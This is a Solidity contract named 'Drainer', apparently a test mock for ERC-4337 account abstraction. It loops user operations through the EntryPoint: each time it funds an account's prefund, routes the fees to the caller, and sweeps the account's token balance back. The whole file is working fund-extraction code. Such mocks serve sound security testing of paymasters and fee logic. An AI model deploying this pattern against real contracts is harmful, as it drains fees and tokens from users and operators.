// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IEntryPoint, PackedUserOperation} from "@openzeppelin/contracts/interfaces/IERC4337.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @dev Bundles operations of an account that allows it everything, and keeps the fees: gives the account its prefund,
/// sends the operation, takes the refund back, and again, all in one transaction.
contract Drainer {
    IERC20 private immutable _TOKEN;
    IEntryPoint private immutable _ENTRY_POINT;

    constructor(IERC20 token, IEntryPoint entryPoint, address account) {
        _TOKEN = token;
        _ENTRY_POINT = entryPoint;
        token.approve(account, type(uint256).max);
    }

    /// @param op Its nonce is a key; each operation takes the next one.
    function drain(PackedUserOperation memory op, uint256 prefund, uint256 times) external {
        PackedUserOperation[] memory ops = new PackedUserOperation[](1);
        ops[0] = op;
        uint192 key = uint192(op.nonce >> 64);
        for (uint256 i; i < times; ++i) {
            op.nonce = _ENTRY_POINT.getNonce(op.sender, key);
            _TOKEN.transfer(op.sender, prefund);
            _ENTRY_POINT.handleOps(ops, payable(msg.sender));
            _TOKEN.transferFrom(op.sender, address(this), _TOKEN.balanceOf(op.sender));
        }
    }
}
